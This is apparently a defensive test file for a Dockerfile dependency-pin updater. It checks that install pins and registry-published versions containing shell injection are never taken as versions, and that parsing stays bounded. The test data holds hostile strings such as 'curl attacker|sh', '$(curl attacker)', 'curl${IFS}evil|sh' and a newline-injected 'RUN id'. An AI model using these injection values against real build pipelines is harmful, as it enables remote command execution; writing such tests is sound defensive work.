// A repository's RUN lines decide which packages Freshen reads and a registry's publisher decides the versions: neither reaches the shell nor unbounded work.
import { describe, expect, it } from 'vitest';
import { createOciClient } from '../../src/datasources/oci/index.js';
import { scan } from '../../src/engine/index.js';
import { createToolPinsPlanner } from '../../src/engine/planners/tool-pins.js';
import type { FileSource } from '../../src/engine/types.js';
import { createHttpClient } from '../../src/http/index.js';
import { extractRunInstalls } from '../../src/managers/run-installs/index.js';
import { silentLogger } from '../../src/types.js';

const memory = (text: string): FileSource => ({ list: async () => ['Dockerfile'], read: async () => text });

describe('pinned installs written by an attacker', () => {
  it('never treats shell around or inside a pin as its version', () => {
    const text = [
      'FROM scratch',
      `RUN pip install "evil==1.0; curl attacker|sh" 'evil2==1.0\`id\`' evil3==$(curl attacker)`,
      'RUN npm install -g "evil4@1.0.0 && curl attacker" evil5@1.0.0$(id) evil6@`id`',
      'RUN ["pip", "install", "evil7==$(id)"]',
    ].join('\n');
    const { deps, errors } = extractRunInstalls(text, 'Dockerfile');
    expect(errors).toEqual([]);
    // Computed versions are listed with why they are not moved; quoted text that is no version is not a pin at all.
    expect(deps.filter((d) => !d.skipReason)).toEqual([]);
    expect(deps.map((d) => `${d.depName}: ${d.skipReason}`)).toEqual(
      ['evil3', 'evil5', 'evil6'].map((name) => `${name}: the version is computed, not a plain $VAR`),
    );
  });

  it('reads a RUN with thousands of installs in bounded time', () => {
    const many = Array.from({ length: 20_000 }, (_, i) => `pkg${i}==1.${i}`).join(' ');
    const started = performance.now();
    const { deps } = extractRunInstalls(`FROM scratch\nRUN pip install ${many} && npm i -g ${many.replace(/==/g, '@').replace(/@1\./g, '@1.0.')}\n`, 'Dockerfile');
    expect(deps).toHaveLength(40_000);
    expect(performance.now() - started).toBeLessThan(20_000);
  });
});

describe('versions a registry publisher chose', () => {
  it('are never written when they hold anything but a version', async () => {
    const text = 'FROM scratch\nRUN pip install black==24.1.0 && npm install -g tsc-tool@5.4.5\n';
    const tools = createToolPinsPlanner({
      github: { listReleases: async () => [], listTags: async () => [] },
      http: createHttpClient({}),
      pypiVersions: async () => ['24.1.0', '99.0;curl${IFS}evil|sh', '98.0$(id)', '97.0`id`', '24.4.2', `96.${'9'.repeat(200)}`],
      npmVersions: async () => ({ versions: ['5.4.5', '9.9.9 && id', '5.5.2', '8.8.8\nRUN id'] }),
    });
    const result = await scan(memory(text), { images: createOciClient({}), log: silentLogger, planners: [tools] });
    expect(result.errors).toEqual([]);
    expect(result.updates.map((u) => u.to)).toEqual(['black==24.4.2', 'tsc-tool@5.5.2']);
  });
});
